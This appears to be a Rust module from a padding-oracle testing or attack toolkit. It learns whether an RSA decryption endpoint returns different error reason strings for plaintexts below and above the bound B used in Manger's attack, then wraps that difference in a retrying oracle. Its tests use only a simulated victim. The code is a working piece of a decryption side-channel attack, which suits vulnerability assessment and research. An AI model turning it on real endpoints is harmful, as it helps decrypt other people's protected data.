use crypto_bigint::{Encoding, Uint};
use tracing::info;

use super::{proxy_for, stable_response, LearnerError, LearningResult, OracleLearner, RequestSource};
use crate::{
    config::ErrorLearnerConfig,
    endpoint::Endpoint,
    manger::{generate_plaintext_geq_b, generate_plaintext_less_b},
    oracle::RobustOracle,
    report::Report,
    transport::Transport,
    wire::ErrorMessage,
};

/// Learns distinct error reasons per plaintext class, each verification with a new plaintext.
///
/// Reason strings are less reliable than codes, so the resulting oracle retries until exactly
/// one of the two learned reasons comes back.
pub struct SimpleErrorReasonOracleLearner<T, R> {
    transport: T,
    requests: R,
    config: ErrorLearnerConfig,
}

impl<T, R> SimpleErrorReasonOracleLearner<T, R> {
    pub fn new(transport: T, requests: R, config: ErrorLearnerConfig) -> Self {
        Self {
            transport,
            requests,
            config,
        }
    }
}

impl<const LIMBS: usize, T, R> OracleLearner<LIMBS> for SimpleErrorReasonOracleLearner<T, R>
where
    Uint<LIMBS>: Encoding,
    T: Transport + Clone,
    R: RequestSource<LIMBS>,
{
    type Oracle = RobustOracle<LIMBS, T>;

    fn learn(&mut self, endpoint: &Endpoint<LIMBS>) -> Result<LearningResult<Self::Oracle>, LearnerError> {
        let mut proxy = proxy_for(endpoint, &mut self.requests, self.transport.clone())?;
        let mut report = Report::new("error reason").with("verifications", self.config.verifications);
        let reason = |error: &ErrorMessage| error.reason.clone();
        let public_key = endpoint.public_key;
        let mut rng = rand::thread_rng();

        let less_b = stable_response(
            &mut proxy,
            self.config.verifications,
            || generate_plaintext_less_b(&public_key, &mut rng),
            reason,
        )?;
        let Some(less_reason) = less_b else {
            info!("reasons for plaintexts below B differ");
            return Ok(LearningResult::failure(report.with("result", "unstable reason below B")));
        };
        report.push("reason below B", &less_reason);

        let geq_b = stable_response(
            &mut proxy,
            self.config.verifications,
            || generate_plaintext_geq_b(&public_key, &mut rng),
            reason,
        )?;
        let Some(geq_reason) = geq_b else {
            info!("reasons for plaintexts above B differ");
            return Ok(LearningResult::failure(report.with("result", "unstable reason above B")));
        };
        report.push("reason above B", &geq_reason);

        if less_reason == geq_reason {
            info!(reason = %less_reason, "both plaintext classes give the same reason");
            return Ok(LearningResult::failure(report.with("result", "identical reasons")));
        }

        info!(%less_reason, %geq_reason, "error reason oracle learned");
        let oracle = RobustOracle::new(
            proxy,
            Box::new(move |error| error.reason == less_reason),
            Box::new(move |error| error.reason == geq_reason),
            self.config.attempts,
        )
        .with_non_error_policy(self.config.non_error_policy);
        Ok(LearningResult::success(
            oracle,
            report
                .with("attempts", self.config.attempts)
                .with("result", "distinct reasons"),
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        bigint::rsa::RSA,
        learner::tests::{endpoint, requests, unsupported, victim},
        oracle::Oracle,
        sim::{Leak, REASON_GEQ_B, REASON_LESS_B},
    };

    #[test]
    fn test_learns_distinct_reasons() {
        let victim = victim(Leak::ErrorReason);
        let config = ErrorLearnerConfig::default().with_verifications(4).with_attempts(3);
        let mut learner = SimpleErrorReasonOracleLearner::new(victim.clone(), requests(), config);
        let endpoint = endpoint();
        let result = learner.learn(&endpoint).unwrap();

        assert!(result.successful);
        assert_eq!(result.report.get("reason below B"), Some(REASON_LESS_B));
        assert_eq!(result.report.get("reason above B"), Some(REASON_GEQ_B));
        assert_eq!(result.report.get("attempts"), Some("3"));
        assert_eq!(victim.exchanges(), 8);

        let mut oracle = result.oracle.unwrap();
        let mut rng = rand::thread_rng();
        let public_key = endpoint.public_key;
        let less = RSA::apply_block(&public_key, &generate_plaintext_less_b(&public_key, &mut rng)).unwrap();
        let geq = RSA::apply_block(&public_key, &generate_plaintext_geq_b(&public_key, &mut rng)).unwrap();
        assert!(oracle.check_validity(&less).unwrap());
        assert!(!oracle.check_validity(&geq).unwrap());
        assert_eq!(oracle.query_count(), 2);
    }

    #[test]
    fn test_reason_free_victims_fail() {
        for leak in [Leak::ErrorCode, Leak::None] {
            let mut learner = SimpleErrorReasonOracleLearner::new(victim(leak), requests(), ErrorLearnerConfig::default());
            let result = learner.learn(&endpoint()).unwrap();

            assert!(!result.successful);
            assert_eq!(result.report.get("result"), Some("identical reasons"));
        }
    }

    #[test]
    fn test_unsupported_endpoint() {
        for endpoint in unsupported() {
            let mut learner =
                SimpleErrorReasonOracleLearner::new(victim(Leak::ErrorReason), requests(), ErrorLearnerConfig::default());
            assert!(matches!(
                learner.learn(&endpoint),
                Err(LearnerError::UnsupportedConfiguration(_))
            ));
        }
    }
}
